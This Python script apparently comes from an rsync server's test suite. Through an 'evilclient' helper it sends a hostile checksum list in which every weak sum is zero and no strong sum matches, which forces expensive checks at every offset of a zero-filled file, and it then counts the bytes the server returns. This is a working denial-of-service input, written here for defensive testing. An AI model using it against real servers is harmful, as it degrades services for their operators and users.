#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""A hostile sum list in full: requests FILE with COUNT blocks of BLENGTH
bytes whose weak sums are all 0 (the weak sum of a run of zero bytes) and
whose strong sums never match, so that on a file of zeros every offset
looks like a match until its strong sum is computed.  Reads what the
server sends until it closes, falls quiet for 3 s after sending, or the
time is up (--limit, default 60 s), then prints "DONE <bytes received>".

  hostsums.py PORT MODULE FILE COUNT BLENGTH [--limit S]
"""
import socket
import struct
import sys
import time

sys.path.insert(0, __import__("os").path.dirname(__file__))
from evilclient import Client  # noqa: E402


def main():
    a = sys.argv[1:]
    limit = 60.0
    if "--limit" in a:
        i = a.index("--limit")
        limit = float(a[i + 1])
        del a[i:i + 2]
    port, module, fname, count, blength = int(a[0]), a[1], a[2], int(a[3]), int(a[4])
    c = Client(port, module, ["--server", "--sender", "-e.LsfxCIvu", "--checksum-choice=md5",
                              ".", module + "/" + fname])
    end = time.time() + 10
    while time.time() < end:  # the file list
        code, payload = c.frame()
        if code == 0 and payload:
            break
    c.send(b"\x01" + struct.pack("<H", 0x8000) + struct.pack("<iiii", count, blength, 16, 0))
    one = struct.pack("<I", 0) + b"\x77" * 16
    chunk = one * 4096
    left = count
    while left > 0:
        n = min(left, 4096)
        c.send(chunk if n == 4096 else one * n)
        left -= n
    got = 0
    c.s.settimeout(1)
    end = time.time() + limit
    quiet = 0
    while time.time() < end:
        try:
            b = c.s.recv(1 << 20)
        except socket.timeout:
            quiet += 1
            if got and quiet >= 3:  # the file came and the server waits
                break
            continue
        except ConnectionResetError:
            break
        quiet = 0
        if not b:
            break
        got += len(b)
    print("DONE", got)


if __name__ == "__main__":
    main()
